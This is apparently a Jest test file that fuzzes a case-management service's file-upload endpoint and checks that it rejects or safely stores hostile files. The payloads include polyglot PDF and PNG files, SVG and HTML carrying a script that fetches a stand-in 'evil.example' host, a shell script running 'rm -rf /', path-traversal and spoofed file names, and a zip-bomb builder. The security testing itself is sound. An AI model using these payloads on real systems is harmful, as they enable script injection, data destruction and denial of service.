import { readdir } from 'node:fs/promises';
import { Agent, request } from 'node:http';
import path from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { registered, type Case } from '../support/cases.js';
import type { Client } from '../support/client.js';
import { times } from '../support/bars.js';
import { openDistrict, type District } from '../support/district.js';
import { numbersFrom, oneOf, SEED } from '../support/random.js';

/** Enough in any run for each kind of file to be taken once. */
const UPLOADS = Math.max(1_000, times(5_000));
const AT_ONCE = 16;
const SCRIPT = '<script>fetch("//evil.example")</script>';

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkM9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** Content by what it pretends to be; the first two are what their type says, with more behind it. */
const CONTENTS: Record<string, () => Buffer> = {
  'a PDF with a page behind it': () => Buffer.concat([PDF, Buffer.from(SCRIPT)]),
  'a picture with an archive behind it': () => Buffer.concat([PNG, archive('a.class', 'x')]),
  'a page that mentions PDF': () => Buffer.from(`<!doctype html>${SCRIPT}<!-- %PDF-1.4 -->`),
  'a drawing with script': () =>
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
  'a program': () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)]),
  'a Linux program': () => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(300)]),
  'a shell script': () => Buffer.from('#!/bin/sh\nrm -rf /\n'),
  'an archive': () => archive('../../etc/passwd', 'x'),
  nothing: () => Buffer.alloc(0),
  text: () => Buffer.from('申请书'),
};
const TRUE_TO_TYPE: Record<string, string> = {
  'a PDF with a page behind it': 'application/pdf',
  'a picture with an archive behind it': 'image/png',
};

const NAMES = [
  'a.pdf',
  '../../../etc/passwd',
  '..\\..\\windows\\system32\\x.pdf',
  '/absolute/a.pdf',
  'nul\u0000.pdf',
  'line\r\nbreak.pdf',
  '__proto__',
  '.htaccess',
  'CON.pdf',
  `${'长'.repeat(400)}.pdf`,
  '\u202egpj.exe',
  '',
];
const TYPES = [
  'application/pdf',
  'text/html',
  'image/svg+xml',
  'application/x-msdownload',
  '*/*',
  '',
];

interface Part {
  what: string;
  name: string;
  type: string;
  /** How much of the body is sent; less than all of it is a connection that broke. */
  share: number;
  boundary: 'right' | 'other' | 'missing';
  field: 'file' | 'files[]' | '__proto__';
}

describe(`S8: hostile uploads (YIKOU_SEED=${SEED})`, () => {
  let district: District;
  let clerk: Client;
  let kase: Case;
  const agent = new Agent({ keepAlive: true, maxSockets: AT_ONCE });

  beforeAll(async () => {
    district = await openDistrict();
    clerk = await district.as('dxl-clerk1');
    kase = await registered(clerk, 'EQ-T-05-001');
  });
  afterAll(async () => {
    agent.destroy();
    await district.close();
  });

  const keep = () =>
    district.sql.query<{ name: string; media_type: string; storage_key: string }[]>(
      'SELECT name, media_type, storage_key FROM material_files',
    );
  const onDisk = async () => {
    const folder = path.join(district.settings.dataFolder, 'files');
    const found = await readdir(folder, { recursive: true, withFileTypes: true });
    return found.filter((entry) => entry.isFile()).map(({ name }) => name);
  };

  /** @returns the status; 0 where the connection ended before an answer, as a broken one may */
  function send(part: Part, salt: number): Promise<number> {
    const content = CONTENTS[part.what]?.() ?? Buffer.alloc(0);
    const salted =
      content.length > 0 ? Buffer.concat([content, Buffer.from(`\n${salt}`)]) : content;
    const body = bodyOf(part, salted);
    const sent = body.subarray(0, Math.ceil(body.length * part.share));
    const boundary = { right: '; boundary=X', other: '; boundary=Y', missing: '' }[part.boundary];
    return new Promise((resolve) => {
      const outgoing = request(`${district.url}/api/v1/cases/${kase.id}/materials/1/files`, {
        agent,
        method: 'POST',
        headers: {
          authorization: `Bearer ${clerk.token}`,
          'content-type': `multipart/form-data${boundary}`,
          'content-length': body.length,
        },
      });
      outgoing.on('response', (answer) => {
        answer.resume();
        answer.on('end', () => resolve(answer.statusCode ?? 0));
        answer.on('error', () => resolve(0));
      });
      outgoing.on('error', () => resolve(0));
      outgoing.write(sent);
      if (sent.length < body.length) setImmediate(() => outgoing.destroy());
      else outgoing.end();
    });
  }

  it(`${UPLOADS} of them: nothing stored that is not what it says, no path followed, no 5xx, nobody falls over`, async () => {
    const random = numbersFrom(SEED);
    const statuses = new Map<number, number>();
    const one = async () => {
      const part = {
        what: oneOf(random, Object.keys(CONTENTS)),
        name: oneOf(random, NAMES),
        type: oneOf(random, TYPES),
        share: oneOf(random, [1, 1, 1, 1, 0.5, 0.1]),
        boundary: oneOf(random, ['right', 'right', 'right', 'right', 'other', 'missing'] as const),
        field: oneOf(random, ['file', 'file', 'file', 'files[]', '__proto__'] as const),
      };
      const status = await send(part, Math.floor(random() * 1e9));
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
    };
    for (let sent = 0; sent < UPLOADS; sent += AT_ONCE) {
      await Promise.all(Array.from({ length: AT_ONCE }, one));
    }
    expect([...statuses.keys()].filter((status) => status >= 500)).toEqual([]);
    expect(statuses.get(200)).toBeGreaterThan(times(100));
    const rows = await keep();
    expect(new Set(rows.map(({ media_type }) => media_type))).toEqual(
      new Set(Object.values(TRUE_TO_TYPE)),
    );
    expect(rows.filter(({ name }) => /[\\/\p{Cc}]/u.test(name) || name.length > 200)).toEqual([]);
    // Every file belongs to a row, under a name of ours: nothing was left behind or written elsewhere.
    expect((await onDisk()).sort()).toEqual(
      rows.map(({ storage_key }) => path.basename(storage_key)).sort(),
    );
    expect((await fetch(`${district.url}/health/ready`)).status).toBe(200);
  });

  it('an archive that swells is never unpacked: the answer comes at once', async () => {
    const bomb = archive('[Content_Types].xml', Buffer.alloc(200_000_000), true);
    const since = Date.now();
    const { status } = await clerk.upload(
      `/api/v1/cases/${kase.id}/materials/2/files`,
      'a.docx',
      bomb,
    );
    expect(status).toBe(400);
    expect(Date.now() - since).toBeLessThan(3000);
  });
});

function bodyOf({ name, type, field }: Part, content: Buffer): Buffer {
  const head = [
    '--X',
    `Content-Disposition: form-data; name="${field}"; filename="${name}"`,
    ...(type ? [`Content-Type: ${type}`] : []),
    '',
    '',
  ].join('\r\n');
  return Buffer.concat([Buffer.from(head), content, Buffer.from('\r\n--X--\r\n')]);
}

/** A ZIP of one entry, stored or deflated. */
function archive(name: string, text: string | Buffer, deflated = false): Buffer {
  const plain = Buffer.from(text);
  const data = deflated ? deflateRawSync(plain) : plain;
  const fields = Buffer.alloc(26);
  fields.writeUInt16LE(20, 0);
  fields.writeUInt16LE(deflated ? 8 : 0, 4);
  fields.writeUInt32LE(crc32(plain), 10);
  fields.writeUInt32LE(data.length, 14);
  fields.writeUInt32LE(plain.length, 18);
  fields.writeUInt16LE(Buffer.byteLength(name), 22);
  const local = Buffer.concat([
    Buffer.from('PK\x03\x04', 'latin1'),
    fields,
    Buffer.from(name),
    data,
  ]);
  const entry = Buffer.concat([
    Buffer.from('PK\x01\x02', 'latin1'),
    Buffer.from([20, 0]),
    fields,
    Buffer.alloc(14),
    Buffer.from(name),
  ]);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(1, 4);
  end.writeUInt16LE(1, 6);
  end.writeUInt32LE(entry.length, 8);
  end.writeUInt32LE(local.length, 12);
  return Buffer.concat([local, entry, Buffer.from('PK\x05\x06', 'latin1'), end]);
}
